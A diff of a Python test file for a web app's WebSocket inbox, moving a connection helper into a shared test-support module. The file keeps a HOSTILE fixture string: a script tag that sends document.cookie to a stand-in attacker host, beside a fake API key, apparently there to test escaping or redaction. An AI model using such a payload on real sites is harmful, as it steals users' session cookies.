@@ -24,14 +24,13 @@ from runs.protocol import ProtocolError
 from runs.service import deadlines
 from tests.live_support import (
     ANSWER,
-    ORIGIN,
     QUESTION,
     analyst_script,
     close_db_connections,  # noqa: F401  (autouse: closes the ORM thread's connection)
+    inbox_socket,
     llm_at,
     make_notebook,
     make_user,
-    session_cookie,
     until_true,
 )
 
@@ -40,18 +39,6 @@ pytestmark = [pytest.mark.db, pytest.mark.ws, pytest.mark.django_db(transaction=
 HOSTILE = (
     "<script>fetch('https://evil.example/'+document.cookie)</script> sk-live-SECRET"
 )
-
-
-async def inbox_socket(user: AbstractBaseUser) -> WebsocketCommunicator:
-    from agentui.asgi import application
-
-    cookie = await database_sync_to_async(session_cookie)(user)
-    communicator = WebsocketCommunicator(
-        application, "/ws/inbox/", headers=[ORIGIN, (b"cookie", cookie.encode())]
-    )
-    connected, _ = await communicator.connect(timeout=5)
-    assert connected
-    return communicator
 
 
 async def next_list(
